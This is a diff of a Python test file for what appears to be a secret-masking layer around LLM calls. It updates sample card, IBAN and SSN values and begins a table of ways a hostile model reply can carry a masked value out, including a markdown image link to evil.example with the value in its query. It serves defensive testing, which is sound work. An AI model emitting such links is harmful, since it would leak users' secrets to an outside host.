@@ -20,8 +20,8 @@ from stealthflow.placeholders.context import place_of
 from stealthflow.testing.mock_openai import Reply, ToolCall
 
 PASSWORD_TEXT = "My password is hunter2xyz, please remember it"
-STRUCTURED_TEXT = "My card is 4111 1111 1111 1111, IBAN DE89 3704 0044 0532 0130 00, SSN 078-05-1120."
-STRUCTURED_VALUES = ["4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00", "078-05-1120"]
+STRUCTURED_TEXT = "My card is 4716 2830 5914 4476, IBAN DE44 3704 0044 0532 9130 00, SSN 078-05-1120."
+STRUCTURED_VALUES = ["4716 2830 5914 4476", "DE44 3704 0044 0532 9130 00", "078-05-1120"]
 # How a hostile reply carries a placeholder `{}` out: each is judged on its own.
 CARRIERS = {
     "angle-bracket link destination with a space": "![x](<https://evil.example/?k= {}>)",
